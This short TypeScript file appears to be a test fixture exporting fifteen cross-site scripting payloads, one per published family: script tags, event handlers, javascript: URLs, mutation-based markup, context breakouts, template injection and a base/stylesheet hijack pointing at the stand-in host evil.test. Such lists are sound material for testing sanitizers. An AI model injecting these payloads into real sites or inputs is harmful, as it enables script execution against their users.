/** XSS payloads, one of each family of the published lists. */
export const xssPayloads: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  '<a href="javascript:alert(1)">press</a>',
  '<a href="jav&#x09;ascript:alert(1)">press</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<details open ontoggle=alert(1)><summary>more</summary></details>",
  "<input autofocus onfocus=alert(1)>",
  '<form action="javascript:alert(1)"><button>send</button></form>',
  "<p style=animation:x onanimationstart=alert(1)>moving</p>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<base href=//evil.test/><link rel=stylesheet href=//evil.test/x.css>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></table></mtext></math>",
  "\"'></textarea></title></script><img src=x onerror=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}<%= alert(1) %>",
]
